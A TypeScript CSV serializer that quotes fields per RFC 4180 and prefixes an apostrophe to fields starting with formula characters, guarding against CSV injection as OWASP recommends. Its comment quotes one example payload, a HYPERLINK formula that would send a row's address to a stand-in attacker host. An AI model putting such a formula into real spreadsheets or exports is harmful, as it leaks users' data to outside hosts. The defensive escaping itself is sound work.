// RFC 4180 CSV: CRLF line ends; a field with a comma, quote, CR or LF is quoted, quotes doubled.

/**
 * What a spreadsheet reads as a formula: a field that starts with =, +, -, @, a tab or a CR. The
 * export is opened in Excel or LibreOffice, and a description is anybody's text
 * ('=HYPERLINK("https://evil.example/?"&A2)' would send the row's address away), so such a field
 * gets a leading apostrophe, as OWASP's advice on CSV injection has it.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

function csvField(value: string | null | undefined): string {
  const text = FORMULA_START.test(value ?? '') ? `'${value}` : (value ?? '');
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One record with its CRLF. */
export function csvLine(fields: (string | null)[]): string {
  return `${fields.map(csvField).join(',')}\r\n`;
}

export function toCsv(header: string[], rows: (string | null)[][]): string {
  return [header, ...rows].map(csvLine).join('');
}
